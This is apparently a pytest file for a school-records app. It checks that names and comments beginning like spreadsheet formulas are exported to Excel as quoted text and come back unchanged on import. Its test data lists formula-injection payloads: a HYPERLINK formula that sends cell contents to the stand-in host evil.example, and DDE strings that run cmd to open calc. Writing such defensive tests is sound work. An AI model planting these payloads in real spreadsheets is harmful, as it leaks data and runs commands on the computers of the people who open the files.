"""Stored text that starts like a formula goes out as text and comes back the same."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from hocbaso.imports import workbooks
from hocbaso.imports.actions import import_workbook
from hocbaso.records.models import Student, SubjectAssessment, YearlyRecord

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A4,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells(data: bytes, text: str) -> list:
    book = load_workbook(io.BytesIO(data))
    return [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value == text
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_comment_starting_like_a_formula_is_written_as_text(world, text):
    YearlyRecord.objects.filter(pk=world.a.record.pk).update(homeroom_comment=text)
    (cell,) = _cells(workbooks.class_workbook(world.class_a), text)
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_a_name_starting_like_a_formula_is_written_as_text(world):
    Student.objects.filter(pk=world.a.student.pk).update(full_name="=1+1")
    found = _cells(workbooks.class_workbook(world.class_a), "=1+1")
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


def test_an_untouched_template_imports_the_same_text_back(world, principal):
    record = world.a.record
    YearlyRecord.objects.filter(pk=record.pk).update(homeroom_comment=HOSTILE[0])
    SubjectAssessment.objects.create(
        record=record,
        subject_code="TOAN",
        term="hk1",
        data={"level": "T", "score": 9},
        comment=HOSTILE[3],
    )
    data = workbooks.class_workbook(world.class_a)
    report = import_workbook(data, school=world.school_a, user=principal)
    assert report.changed == 0
    assert YearlyRecord.objects.get(pk=record.pk).homeroom_comment == HOSTILE[0]
    row = SubjectAssessment.objects.get(record=record, subject_code="TOAN")
    assert row.comment == HOSTILE[3]
